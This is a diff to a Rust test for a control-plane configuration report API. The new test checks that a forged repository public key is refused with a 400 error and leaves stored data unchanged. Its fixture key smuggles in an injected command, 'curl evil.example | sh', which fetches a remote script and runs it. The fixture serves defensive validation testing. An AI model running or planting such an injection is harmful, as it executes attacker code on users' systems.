@@ -179,13 +179,11 @@ async fn nul_case(backend: Backend) {
             source_synced_commit_id: None,
             source_updated_at: None,
             secrets_version: None,
+            repository_public_key: None,
         }],
     };
-    let accepted = ControlPlane::new(identity)
-        .unwrap()
-        .report(&report)
-        .await
-        .expect("the report lands");
+    let agent = ControlPlane::new(identity).unwrap();
+    let accepted = agent.report(&report).await.expect("the report lands");
     assert_eq!(accepted.results[0].result, ReportDisposition::Recorded, "{accepted:?}");
     let read = api.get(&with_version(&config_path(&c2, "cfg"), FLUX_API)).await;
     let message = read.body["properties"]["errorMessage"]
@@ -193,6 +191,18 @@ async fn nul_case(backend: Backend) {
         .unwrap_or_default()
         .to_owned();
     assert!(message.contains("bad byte \u{FFFD} in manifest"), "{read:?}");
+
+    // a public key that is no key (users paste it into their Git host) is refused, and changes nothing
+    let mut forged = report.clone();
+    forged.configurations[0].repository_public_key = Some("ssh-ed25519 AAAA; curl evil.example | sh".into());
+    let refused = agent.report(&forged).await.expect_err("a forged public key is refused");
+    let text = refused.to_string();
+    assert!(
+        text.contains("400") && text.contains("configurations[0].repositoryPublicKey"),
+        "{text}"
+    );
+    let unchanged = api.get(&with_version(&config_path(&c2, "cfg"), FLUX_API)).await;
+    assert_eq!(unchanged.body["properties"], read.body["properties"]);
 }
 
 on_both_backends!(sixty_four_unconditional_writers_each_land_as_a_generation, writers_case);
